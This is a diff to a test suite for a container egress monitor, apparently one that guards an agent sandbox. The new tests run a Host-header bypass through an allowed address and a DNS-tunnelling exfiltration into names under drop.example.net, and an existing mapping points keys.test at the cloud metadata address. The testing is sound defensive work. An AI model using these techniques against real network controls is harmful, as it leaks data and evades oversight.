@@ -2,6 +2,7 @@ import { spawn, type ChildProcess } from 'node:child_process';
 import { readFileSync } from 'node:fs';
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import { findResolverCgroups } from '../../../monitor/egress/resolver/resolver-cgroup.ts';
+import type { EgressView } from '../../../monitor/rpc/service/egress-service.ts';
 import { describeWith, engineSocket } from '../../engine/capabilities.ts';
 import { testContainers } from '../../engine/containers.ts';
 import type { TestContainer, TestContainers } from '../../engine/containers.ts';
@@ -65,7 +66,11 @@ describeWith(
       const leads = { 'allowed.test': serverAddress, 'other.test': otherAddress };
       stopNames = await startNameServer(
         other,
-        { ...leads, 'www.google.com': serverAddress, 'dns.google.com': serverAddress },
+        {
+          ...leads,
+          ...{ 'www.google.com': serverAddress, 'dns.google.com': serverAddress },
+          'drop.example.net': serverAddress,
+        },
         [
           ...[`--host-record=inside.test,${otherAddress}`, '--cname=alias.test,inside.test'],
           ...['--host-record=keys.test,169.254.169.254', '--cname=front.test,keys.test'],
@@ -94,6 +99,9 @@ describeWith(
         ...['python3', '-c', `import socket,struct,sys,os,time\n${text}`],
       ]);
     const reach = (host: string, port: number): Promise<number> => python(attempt(host, port));
+
+    const limits = ({ coverage }: EgressView): string =>
+      coverage?.sight.state === 'seeing' ? (coverage.sight.limits ?? []).join(' ') : '';
 
     async function counted(name: 'every' | 'questions'): Promise<number> {
       const text = await inNetworkOf(other, ['nft', 'list', 'counter', 'netdev', 'seen', name]);
@@ -244,6 +252,37 @@ for i in range(190): assert q([os.urandom(20).hex().encode(),b"other",b"test"])=
           names.some(({ name, refused }) => name === 'dns.google.com' && refused),
         ),
       );
+    });
+
+    test('reaches another name behind an allowed address, and the badge names that', async () => {
+      // By the name that is allowed a wall can tell; what is asked for over the connection it cannot.
+      expect(
+        await python(`s=socket.create_connection(("allowed.test",80),3)
+s.sendall(b"GET / HTTP/1.0\\r\\nHost: other.test\\r\\n\\r\\n")
+sys.exit(0 if b"200 OK" in s.recv(4096) else 3)`),
+      ).toBe(0);
+      expect(limits(await watch.view(agent))).toMatch(/under other names.* certificate/);
+    });
+
+    test('is found when it tunnels in the names below an allowed *., and the badge names that', async () => {
+      await watch.rule(agent, { verdict: 'allow', target: '*.drop.example.net', local: true });
+      const tunnel = () => watch.findings.filter(({ kind }) => kind === 'dns-tunnel');
+      expect(limits(await watch.view(agent))).toContain('names below *.drop.example.net');
+      expect(tunnel()).toEqual([]);
+      // Each name carries 90 bytes out; the guard has to let it through.
+      expect(
+        await python(`for i in range(60):
+  part=os.urandom(90).hex()
+  name=".".join(part[at:at+60] for at in range(0,180,60))+".drop.example.net"
+  if socket.gethostbyname(name)!="${serverAddress}": sys.exit(4)`),
+      ).toBe(0);
+      await eventually('the tunnel is found', () => tunnel().length > 0);
+      expect(tunnel()[0]?.container).toBe(agent.id);
+      expect(tunnel()[0]?.sentence).toContain('example.net');
+      const removed = await watch
+        .service()
+        .egress({ name: 'remove', target: agent.id, subject: { target: '*.drop.example.net' } });
+      expect(removed.ok).toBe(true);
     });
 
     test('gains nothing by an address after its name has expired', async () => {
